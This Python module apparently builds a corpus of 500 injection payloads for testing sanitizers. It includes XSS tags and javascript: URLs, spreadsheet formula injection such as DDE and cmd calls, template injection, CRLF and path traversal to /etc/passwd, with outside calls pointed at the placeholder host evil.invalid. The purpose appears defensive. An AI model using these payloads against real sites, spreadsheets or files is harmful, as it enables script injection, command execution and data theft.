"""Five hundred texts that would run, be computed or break out somewhere, made of their kinds.

Whatever runs sets ``window.__ran``; whatever asks another host asks ``evil.invalid``, which there is not.
"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

RUN = "window.__ran=1"
HOST = "//evil.invalid/x"
COUNT = 500

_TAGS = (
    "<script>{run}</script>", "<ScRiPt >{run}</sCrIpT>", "<script src={host}></script>", "<script\t>{run}//",
    "<img src=x onerror={run}>", "<img/src=x/onerror={run}>", "<IMG SRC=x ONERROR={run}>", "<svg onload={run}>",
    "<svg><script>{run}</script></svg>", "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:{run}>", "<math><mtext><img src=x onerror={run}></mtext></math>",
    "<math href='javascript:{run}'>x</math>", "<body onload={run}>", "<details open ontoggle={run}>",
    "<input autofocus onfocus={run}>", "<video><source onerror={run}></video>", "<audio src=x onerror={run}>",
    "<iframe srcdoc='<script>parent.__ran=1</script>'></iframe>", "<iframe src='javascript:parent.__ran=1'></iframe>",
    "<object data='javascript:{run}'></object>", "<embed src='javascript:{run}'>", "<base href={host}>",
    "<meta http-equiv=refresh content='0;url={host}'>", "<link rel=stylesheet href={host}>",
    "<form action={host}><button autofocus>x</form>", "<style>*{background:url({host})}</style>",
    "<a href='javascript:{run}'>x</a>", "<marquee onstart={run}>x</marquee>", "<template><script>{run}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'>", "<xmp></xmp><img src=x onerror={run}>",
    "<!--><img src=x onerror={run}>-->", "<![CDATA[><img src=x onerror={run}>]]>", "<?xml-stylesheet href='{host}'?>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'http:{host}'>]>&e;", "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{run}</x:script>",
)  # fmt: skip
_CLOSERS = (
    "</script>",
    "</style>",
    "</textarea>",
    "</title>",
    "-->",
    "]]>",
    "</svg>",
    "</noscript>",
    "</option></select>",
)
_QUOTES = ('"', "'", "`", "\\'", '\\"', '">', "'>", "&quot;", "&#34;", "\u201d", "\uff02")
_HANDLERS = ("onmouseover", "onfocus", "onload", "onerror", "style", "autofocus onfocus", "srcdoc")
_TEMPLATES = ("{{7*7}}", "{% print(1) %}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{config}}", "{{''.__class__}}",
              "{{constructor.constructor('{run}')()}}", "[[${7*7}]]", "%(x)s {0} %s")  # fmt: skip
_SCHEMES = ("javascript:{run}", "JaVaScRiPt:{run}", " javascript:{run}", "java\tscript:{run}", "java\nscript:{run}",
            "\x01javascript:{run}", "javascript&colon;{run}", "&#106;avascript:{run}", "javascript\u200b:{run}",
            "\uff4aavascript:{run}", "javascript://x.example/%0a{run}", "data:text/html,<script>{run}</script>",
            "data:text/html;base64,PHNjcmlwdD4=", "vbscript:msgbox(1)", "view-source:javascript:{run}",
            "feed:javascript:{run}", "file:///etc/passwd", "blob:{host}", "http://x.example/\"onmouseover={run}",
            "https://x.example/'><img src=x onerror={run}>", "mailto:a@b.example?cc=x%0d%0aBcc:y",
            "//evil.invalid/x", "https:javascript:{run}")  # fmt: skip
_FORMULAS = (
    "=1+1", "=cmd|'/C calc'!A0", "=HYPERLINK(\"http:{host}\",\"x\")", "=WEBSERVICE(\"http:{host}\")",
    "=IMPORTXML(\"http:{host}\",\"//a\")", "=IMAGE(\"http:{host}\")", "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "=SUM(1;2)", "=SUM(1,2)", "={1;2}", "=EXEC(\"calc\")", "=1+1;=2+2", "=1+1\n=2+2", "=A1&\"'\"", "='file:///etc/passwd'#$x.A1",
)  # fmt: skip
_SIGNS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", "\uff1d", "\uff0b", "\uff0d", "\uff20", "+=", "-=", "@=")
_AFTER = ("", "x;", "x,", "x\n", "x\r\n", "x\t", '"', "'", '";', '",', "x;\n", '"";', "\ufeff", "\u200b", "\u202e", " ")
_BREAKS = (
    '" .\n<http://evil.invalid/s> <http://evil.invalid/p> "', "' . <x> <y> 'z", '""" . <x:y> <x:z> """', "> <x:y> <x:z> .",
    '"@de . <x:y> <x:z> "', '"^^<x:y> , "z', '\\" . <x:y>', '\\u0022 . ', "} ; DROP ALL ; {", '") . } # ', "?x ?y ?z . FILTER(",
    "x\r\nBEGIN:VEVENT\r\nSUMMARY:y\r\nEND:VEVENT", "x\r\nATTACH:http:{host}", "x;X=1:y\\n", "x\r\n ATTACH:y", "x\nDTSTART:19700101",
    "</title></entry><entry><title>x", "]]></summary><link href='javascript:{run}'/>", "&lt;script&gt;{run}&lt;/script&gt;",
    "&amp;lt;img src=x onerror={run}&amp;gt;", "[x](javascript:{run})", "![x](http:{host})", "<javascript:{run}>",
    "[x]: javascript:{run}", "**x** `<img src=x onerror={run}>`", '{"@id":"x"}</script><script>{run}</script>',
    '","@context":"http:{host}"', "\\u003cscript\\u003e{run}\\u003c/script\\u003e", "../../../etc/passwd", "..\\..\\x",
    "C:\\x", "CON", "x\x00y", "\u202egnp.exe", "a\u2066b\u2069", "\ud83d\ude00".encode("utf-16", "surrogatepass").decode("utf-16"),
    "x{}{{}}", "expression({run})", "url(javascript:{run})", "}*{background:url({host})}", "@import '{host}';",
    "_x0041_", "_x000D_", "%0d%0aSet-Cookie:x", "%3Cscript%3E{run}%3C/script%3E", "\x1b[2J\x1b]0;x\x07", "\x1b]8;;http:{host}\x07x",
)  # fmt: skip


def _kinds() -> Iterator[Iterator[str]]:
    """Each kind in turn, from the plainest to what is made of several."""
    tags = [_fill(tag) for tag in _TAGS]
    yield iter(tags)
    yield (_fill(each) for each in _FORMULAS)
    yield (_fill(each) for each in _SCHEMES)
    yield (_fill(each) for each in _BREAKS)
    yield (_fill(each) for each in _TEMPLATES)
    yield (f"{after}{sign}1+1" for sign, after in product(_SIGNS, _AFTER))
    yield (f"{closer}{tag}" for tag, closer in zip(tags * 3, _CLOSERS * 12, strict=False))
    yield (f"x{quote} {handler}={RUN} y={quote}" for handler, quote in product(_HANDLERS, _QUOTES))


def _fill(text: str) -> str:
    return text.replace("{run}", RUN).replace("{host}", HOST)


def payloads() -> list[str]:
    """All of them, each once, the kinds mixed."""
    found: dict[str, None] = {}
    kinds = [*_kinds()]
    while kinds and len(found) < COUNT:
        for kind in [*kinds]:
            text = next(kind, None)
            if text is None:
                kinds.remove(kind)
            elif len(found) < COUNT:
                found[text] = None
    return [*found]


def formulas() -> list[str]:
    """Those that a spreadsheet program would compute, as it stands or behind a separator."""
    return [text for text in payloads() if any(sign in text for sign in ("=", "+", "@", "-"))]
